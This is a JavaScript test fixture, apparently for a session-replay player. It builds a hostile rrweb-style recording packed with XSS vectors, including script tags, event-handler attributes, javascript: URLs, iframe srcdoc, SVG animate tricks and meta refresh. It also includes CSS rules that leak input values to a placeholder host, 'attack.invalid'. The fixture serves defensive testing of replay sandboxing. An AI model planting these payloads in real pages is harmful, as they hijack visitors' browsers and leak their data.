// A recording as an attacker would send it: everything in it tries to run, to leave its frame, to lead the page away, or to tell
// somebody that it is watched.
const RUN = "top.attacked = true; fetch('/api/attack/script')";
/** Nobody's host: the test listens for connections to it. */
export const OUTSIDE = "attack.invalid";

const out = (path) => `http://${OUTSIDE}/${path}`;
let nextId = 100;
const element = (tagName, attributes = {}, childNodes = [], more = {}) => ({
  type: 2,
  id: more.id ?? nextId++,
  tagName,
  attributes,
  childNodes,
  ...more,
});
const text = (textContent, more = {}) => ({ type: 3, id: nextId++, textContent, ...more });
const svg = (tagName, attributes = {}, childNodes = []) => element(tagName, attributes, childNodes, { isSVG: true });
const page = (childNodes) => ({ type: 0, id: nextId++, childNodes });

const CSS = `@import url("${out("import.css")}");
@font-face { font-family: told; src: url("${out("font.woff2")}"); }
body { background-image: url("${out("background.png")}"); font-family: told; }
input[value^="s"] { background: url("${out("value-begins-with-s")}"); }
#shown::before { content: url("${out("content.png")}"); }
#shown { cursor: url("${out("cursor.cur")}"), auto; list-style: url("${out("list.png")}"); }`;

/** What runs. */
const scripts = () => [
  element("script", {}, [text(RUN)]),
  element("SCRIPT", {}, [text(RUN)]),
  element("script", { src: "/api/attack/script.js" }),
  element("SCRIPT", { src: "/api/attack/script.js" }),
  element("script", { type: "module", src: out("module.js") }),
  element("img", { src: "data:image/png;base64,x", onerror: RUN }, [], { id: 15 }),
  element("a", { href: `javascript:${RUN}`, autofocus: "", onfocus: RUN, ping: out("ping") }, [text("link")], {
    id: 16,
  }),
  element("video", { onerror: RUN, src: "data:video/mp4,x", autoplay: "" }),
  element("details", { open: "", ontoggle: RUN }, [text("more")]),
  element("div", {
    style: "animation: x 1ms",
    onanimationstart: RUN,
    ontransitionend: RUN,
    oncontentvisibilityautostatechange: RUN,
  }),
  svg("svg", { onload: RUN }, [
    svg("script", {}, [text(RUN)]),
    svg("script", { "xlink:href": "/api/attack/script.js" }),
    svg("animate", { onbegin: RUN, attributeName: "x", dur: "1s" }),
    svg("set", { attributeName: "onclick", to: RUN }),
    svg("a", { "xlink:href": `javascript:${RUN}` }, [text("link")]),
    svg("image", { href: out("svg.png"), "xlink:href": out("svg.png") }),
    svg("use", { href: out("sprite.svg#a") }),
    svg("foreignObject", { width: "10", height: "10" }, [
      element("script", {}, [text(RUN)]),
      element("iframe", { srcdoc: `<script>${RUN}</script>` }),
      element("img", { src: out("foreign.png") }),
    ]),
  ]),
];

/** What leads away, or opens a page in the page. */
const ways = () => [
  element("iframe", { src: "/api/attack/frame" }, [], { id: 18 }),
  element("iframe", { srcdoc: `<script>${RUN}</script><img src="${out("srcdoc.png")}" onerror="${RUN}">` }),
  element("iframe", { src: `javascript:${RUN}` }),
  element("iframe", { src: out("frame"), sandbox: "allow-scripts allow-top-navigation" }),
  element("iframe", {}, [], { id: 60 }),
  element("frameset", {}, [element("frame", { src: out("frameset") })]),
  element("portal", { src: out("portal") }),
  element("object", { data: "/api/attack/object", type: "text/html" }),
  element("object", { data: out("object") }, [element("param", { name: "movie", value: out("movie") })]),
  element("embed", { src: "/api/attack/embed", type: "text/html" }),
  element("embed", { src: out("embed") }),
  element("applet", { code: out("applet") }),
  element("form", { action: out("form"), target: "_top" }, [
    element("input", { autofocus: "", onfocus: RUN, value: "secret", formaction: out("formaction") }, [], { id: 27 }),
    element("input", { type: "image", src: out("input.png") }),
    element("button", { type: "submit", formaction: `javascript:${RUN}` }, [text("send")]),
  ]),
];

/** What loads. */
const assets = () => [
  element(
    "p",
    { id: "shown", style: `border-image: url("${out("inline.png")}")` },
    [text("This page tried to run scripts, to lead you away, and to tell somebody that you watch.")],
    { id: 11 },
  ),
  element("img", { src: out("picture.png"), srcset: `${out("picture-2.png")} 2x` }),
  element("picture", {}, [element("source", { srcset: out("source.png") }), element("img", { src: "data:," })]),
  element(
    "video",
    { poster: out("poster.png"), src: out("film.mp4"), preload: "auto", autoplay: "" },
    [element("track", { src: out("track.vtt"), default: "" })],
    { id: 28 },
  ),
  element("audio", { src: out("sound.mp3"), preload: "auto", autoplay: "" }),
  element("table", { background: out("table.png") }, []),
];

const heads = () => [
  element("meta", { "http-equiv": "refresh", content: "0;url=/api/attack/refresh" }),
  element("META", { "HTTP-EQUIV": "Refresh", content: `0;url=${out("refresh")}` }),
  element("meta", { "http-equiv": "Content-Security-Policy", content: "default-src *" }),
  element("base", { href: out(""), target: "_top" }),
  element("link", { rel: "stylesheet", href: out("style.css") }),
  ...["preconnect", "dns-prefetch", "prefetch", "prerender", "modulepreload", "icon", "manifest"].map((rel) =>
    element("link", { rel, href: out(rel) }),
  ),
  element("LINK", { REL: "Preconnect", href: out("preconnect") }),
  element("link", { rel: "preload", as: "image", href: out("preload.png") }),
  element("link", { href: out("later") }, [], { id: 61 }),
  element("style", {}, [text(CSS, { isStyle: true })]),
  element("style", { _cssText: CSS }, [], { id: 62 }),
];

/** @param {number} timestamp epoch ms of its first event */
export function hostileVisit(timestamp) {
  nextId = 100;
  const body = element(
    "body",
    { onload: RUN, onpageshow: RUN, background: out("body.png") },
    [...assets(), ...scripts(), ...ways()],
    { id: 10 },
  );
  const doctype = { type: 1, id: nextId++, name: "html", publicId: "", systemId: "" };
  const node = page([doctype, element("html", {}, [element("head", {}, heads()), body])]);
  const nested = page([
    element("html", {}, [
      element("head", {}, [element("base", { href: out("") }), element("style", { _cssText: CSS })]),
      element("body", { onload: RUN }, [
        element("script", {}, [text(RUN)]),
        element("img", { src: out("nested.png") }),
      ]),
    ]),
  ]);
  const incremental = (after, data) => ({ type: 3, timestamp: timestamp + after, data });
  const mutation = { source: 0, texts: [], removes: [], attributes: [], adds: [] };
  return [
    { type: 4, timestamp, data: { href: out(""), width: 1024, height: 700 } },
    { type: 2, timestamp: timestamp + 10, data: { node, initialOffset: { top: 0, left: 0 } } },
    incremental(200, { ...mutation, isAttachIframe: true, adds: [{ parentId: 60, nextId: null, node: nested }] }),
    incremental(300, {
      ...mutation,
      attributes: [
        { id: 15, attributes: { src: out("later.png"), onerror: RUN } },
        { id: 18, attributes: { src: `javascript:${RUN}` } },
        { id: 61, attributes: { rel: "preconnect" } },
        { id: 11, attributes: { style: { "background-image": `url("${out("declared.png")}")` } } },
      ],
      adds: [
        { parentId: 10, nextId: null, node: element("script", {}, [], { id: 40 }) },
        { parentId: 40, nextId: null, node: text(RUN) },
        { parentId: 10, nextId: null, node: element("img", { src: out("added.png"), onerror: RUN }) },
        { parentId: 10, nextId: null, node: element("link", { rel: "preconnect", href: out("added") }) },
      ],
    }),
    incremental(400, { source: 8, id: 62, adds: [{ rule: `p { background: url("${out("rule.png")}") }`, index: 0 }] }),
    incremental(450, { source: 10, family: "later", fontSource: `url(${out("face.woff2")})`, buffer: false }),
    incremental(500, { source: 7, id: 28, type: 0, currentTime: 0, volume: 1, muted: false, playbackRate: 1 }),
    incremental(1500, { source: 2, type: 2, id: 16, x: 10, y: 10 }),
    incremental(2500, { source: 2, type: 5, id: 27 }),
  ];
}

/** A page of very many elements, as one real recording had. */
export function hugeVisit(timestamp, elements = 100_000) {
  nextId = 100;
  const rows = Array.from({ length: elements / 2 }, (_, n) =>
    element("p", { class: `row-${n % 50}` }, [element("i", {}, [])]),
  );
  const body = element("body", {}, [element("h1", { id: "shown" }, [text("Very many rows")]), ...rows]);
  return [
    { type: 4, timestamp, data: { href: out(""), width: 1024, height: 700 } },
    {
      type: 2,
      timestamp: timestamp + 10,
      data: { node: page([element("html", {}, [element("head"), body])]), initialOffset: { top: 0, left: 0 } },
    },
    { type: 3, timestamp: timestamp + 3_000, data: { source: 1, positions: [{ x: 5, y: 5, id: 100, timeOffset: 0 }] } },
  ];
}
